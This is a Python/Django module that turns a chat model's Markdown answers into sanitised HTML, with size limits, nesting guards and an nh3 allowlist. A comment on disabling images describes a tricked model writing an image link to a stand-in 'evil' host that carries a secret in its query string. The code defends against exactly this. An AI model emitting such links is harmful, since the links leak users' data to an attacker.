"""Model answers as HTML: Markdown (markdown-it-py), highlighted code (Pygments), sanitised by nh3.

nh3 is the security boundary: whatever the Markdown renderer or Pygments emits, only the tags,
attributes, classes and URL schemes allowed here reach the page.
"""

from functools import lru_cache

import nh3
from django.utils.html import escape, format_html
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock
from markdown_it.rules_core import StateCore
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_all_lexers, get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

# Rendering costs up to ~10 µs a character (bench/markdown_render.py) on the thread that serves
# pages; past this size an answer is shown as plain text, a few milliseconds even at 1 MB.
MARKDOWN_LIMIT_CHARS = 100_000
# Pygments' regex lexers can take super-linear time on crafted input; past this size a code
# block is shown as plain text, which is what a reader of that much code needs anyway.
HIGHLIGHT_LIMIT_CHARS = 20_000
HIGHLIGHT_STYLE = "default"
ALIGNMENTS = ("left", "center", "right")
# Below the parser's own limit (maxNesting, 20 in the CommonMark preset): a list opens two levels.
DEEPEST_BLOCK_LEVEL = 16

_formatter = HtmlFormatter(nowrap=True)


@lru_cache(maxsize=128)
def _lexer_named(language: str) -> Lexer | None:
    try:
        return get_lexer_by_name(language.lower())
    except ClassNotFound:
        return None


def _highlight_code(code: str, language: str, _attributes: str) -> str:
    lexer = _lexer_named(language) if language else None
    if lexer is None or len(code) > HIGHLIGHT_LIMIT_CHARS:
        return f"<pre><code>{escape(code)}</code></pre>"
    # The class names the lexer, not what the model typed ("Py" and "python3" both say python).
    return (
        f'<pre><code class="language-{lexer.aliases[0]}">'
        f"{highlight(code, lexer, _formatter)}</code></pre>"
    )


def _deep_content_as_text(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
    """Past its nesting limit markdown-it drops the rest of the input; this keeps it, as text."""
    if state.level < DEEPEST_BLOCK_LEVEL:
        return False
    token = state.push("text", "", 0)
    token.content = state.getLines(start_line, end_line, state.blkIndent, False)
    token.map = [start_line, end_line]
    state.line = end_line
    return True


def _alignment_as_class(state: StateCore) -> None:
    """Column alignment as a class: the Content-Security-Policy forbids style attributes."""
    for token in state.tokens:
        style = token.attrGet("style") if token.type in ("th_open", "td_open") else None
        if isinstance(style, str):
            del token.attrs["style"]
            token.attrSet("class", "align-" + style.removeprefix("text-align:"))


_markdown = (
    MarkdownIt("commonmark", {"html": False, "breaks": True, "highlight": _highlight_code})
    .enable(["table", "strikethrough"])
    # An image loads by itself: a model tricked into writing ![](https://evil/?q=secret) would
    # send what it knows to that server. `![alt](url)` shows as a link the reader can follow.
    .disable("image")
)
_markdown.block.ruler.before("table", "deep_content_as_text", _deep_content_as_text)
_markdown.core.ruler.push("alignment_as_class", _alignment_as_class)

_LANGUAGE_CLASSES = {
    f"language-{aliases[0]}" for _name, aliases, _files, _types in get_all_lexers() if aliases
}
_cleaner = nh3.Cleaner(
    tags={
        *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote"),
        *("strong", "em", "s", "code", "pre", "span", "a"),
        *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
    },
    attributes={"a": {"href"}, "ol": {"start"}},
    allowed_classes={
        "code": _LANGUAGE_CLASSES,
        "span": {name for name in STANDARD_TYPES.values() if name},
        "th": {f"align-{side}" for side in ALIGNMENTS},
        "td": {f"align-{side}" for side in ALIGNMENTS},
    },
    url_schemes={"http", "https", "mailto"},
    # A link to one of our own pages, written by a model, is more likely a trick than a help.
    url_relative="deny",
    link_rel="nofollow noopener noreferrer",
    # Opening links in the same tab would close the chat's socket mid-answer.
    set_tag_attribute_values={"a": {"target": "_blank"}},
)


def render_answer_html(text: str) -> SafeString:
    """A model's answer, Markdown, as HTML safe to put in a page."""
    if len(text) > MARKDOWN_LIMIT_CHARS:
        return format_html('<div class="markdown__plain">{}</div>', text)
    return mark_safe(_rendered(text))


# Every page load renders every answer of the conversation again; most are unchanged. At most
# 128 x (100 kB of Markdown + its HTML) stay in memory; a usual answer is a few kB.
@lru_cache(maxsize=128)
def _rendered(text: str) -> str:
    return _cleaner.clean(_markdown.render(text))


def highlight_css() -> str:
    """The stylesheet for highlighted code, kept in static/css/pygments.css."""
    rules = HtmlFormatter(style=HIGHLIGHT_STYLE).get_token_style_defs(".markdown pre")
    header = (
        f"/* Highlighted code in answers: Pygments' {HIGHLIGHT_STYLE!r} style. Generated by\n"
        "   python manage.py highlight_css > static/css/pygments.css */\n"
    )
    return header + "\n".join(rules) + "\n"
